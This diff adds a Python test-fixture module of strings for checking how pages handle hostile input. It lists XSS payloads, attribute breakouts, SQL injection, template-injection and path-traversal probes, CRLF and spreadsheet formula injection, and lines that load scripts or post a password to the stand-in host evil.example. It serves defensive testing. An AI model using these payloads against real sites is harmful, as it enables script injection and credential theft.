@@ -1,0 +1,75 @@
+"""Strings that break pages: markup, attributes, templates, formulas, odd ends of Unicode."""
+
+from __future__ import annotations
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "<ScRiPt SrC=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(3)>",
+    "<svg onload=alert(4)>",
+    "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
+    "<math><mi xlink:href=javascript:alert(6)>x</mi></math>",
+    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
+    "<object data=javascript:alert(8)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<form action=//evil.example/><input name=password>",
+    "<a href='javascript:alert(9)'>click</a>",
+    "<details open ontoggle=alert(10)>",
+    "<div hx-get=//evil.example/ hx-trigger=load>",
+    "<div hx-on::load=alert(11)>",
+    "<div data-hx-post=/console/sign-out data-hx-trigger=load>",
+    "<template><script>alert(12)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(13)>'>",
+    "<!--><img src=x onerror=alert(14)>-->",
+    "<![CDATA[<script>alert(15)</script>]]>",
+    "<?xml version='1.0'?><x onload=alert(16)/>",
+    "</title></textarea></select></style><img src=x onerror=alert(17)>",
+    "<x/><plaintext>",
+    "&lt;script&gt;alert(18)&lt;/script&gt;",
+    "&#60;script&#62;alert(19)&#60;/script&#62;",
+    "&amp;amp; &quot;twice&quot;",
+)
+ATTRIBUTES = (
+    "\" onmouseover=\"alert(20)",
+    "' onfocus='alert(21)' autofocus='",
+    "` onmouseover=`alert(22)",
+    "\"><script>alert(23)</script>",
+    "'><svg/onload=alert(24)>",
+    "x\" style=\"position:fixed;inset:0\" y=\"",
+    "javascript:alert(25)//",
+    "JaVaScRiPt:alert(26)",
+    "data:text/html,<script>alert(27)</script>",
+    "//evil.example/%2e%2e",
+    "\\\"); alert(28); //",
+    "'); DROP TABLE submission; --",
+    "1' OR '1'='1",
+    "%s %(name)s %n {0} {name!r}",
+)
+TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{{ config.SECRET_KEY }}",
+    "{% include 'base.html' %}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "../../../../etc/passwd",
+    "..\\..\\secrets\\session",
+    "%00 %0d%0aSet-Cookie: a=b %2e%2e%2f",
+)
+FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\")")
+UNICODE = (
+    "e\u0301 \u00e9 \ufb01 \u212b",
+    "\u202ekcab ot tnorf\u202c",
+    "\u200b\u200c\u200d\ufeff zero width",
+    "Z\u0351\u036b\u0343a\u0329\u0340\u0342l\u032f\u033bgo",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
+    "\u0633\u0648\u0642 \u05e9\u05d5\u05e7 \u4e2d\u6587 \u0939\u093f\u0928\u094d\u0926\u0940",
+    "\uff1cscript\uff1ealert(29)\uff1c/script\uff1e",
+    "\u2028line\u2029paragraph",
+    "undefined null NaN true 1e309 -0",
+    "a" * 180,
+)
+STRINGS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *UNICODE)
